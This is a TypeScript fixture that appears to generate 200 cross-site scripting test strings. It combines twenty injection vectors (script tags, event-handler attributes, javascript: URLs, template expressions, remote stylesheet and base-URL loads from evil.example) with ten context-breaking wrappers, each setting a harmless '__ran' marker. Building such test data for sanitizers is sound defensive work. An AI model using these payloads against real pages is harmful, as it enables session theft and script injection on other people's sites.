/** What runs in a careless page, around a `RUN` that says so: tags, attributes, styles, templates. */
const attacks = [
  '<script>RUN</script>',
  '<img src=x onerror=RUN>',
  '<svg onload=RUN>',
  '<svg><animate onbegin=RUN attributeName=x dur=1s>',
  '<iframe srcdoc="<script>parent.RUN</script>">',
  '<a href="javascript:RUN">menu</a>',
  'javascript:RUN//',
  'data:text/html,<script>RUN</script>',
  '<body onpageshow=RUN>',
  '<details open ontoggle=RUN>',
  '<input autofocus onfocus=RUN>',
  '<style>@import "//evil.example/x.css"</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=javascript:RUN">',
  '<base href=//evil.example/>',
  '<form action="javascript:RUN"><button>x',
  '<math><mi xlink:href="javascript:RUN">x',
  '{{constructor.constructor("RUN")()}}',
  '<%= RUN %>',
  '<object data="javascript:RUN">',
] as const;

/** How a text leaves the place that it is written into. */
const ways: readonly ((attack: string) => string)[] = [
  (attack) => attack,
  (attack) => `">${attack}`,
  (attack) => `'>${attack}`,
  (attack) => `</title></textarea>${attack}`,
  (attack) => `--></script>${attack}`,
  (attack) => `" autofocus onfocus=RUN x="${attack}`,
  (attack) => attack.toUpperCase(),
  (attack) => attack.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (attack) => `\u202e${attack}\u2066`,
  (attack) => `\\x3c${attack.replaceAll('"', '\\"')}`,
];

/** 200 texts, each of which sets a mark in a page that runs it. */
export const hostileTexts: readonly string[] = ways.flatMap((write, index) =>
  attacks.map((attack) => write(attack).replaceAll('RUN', `__ran=${index + 1}`)),
);
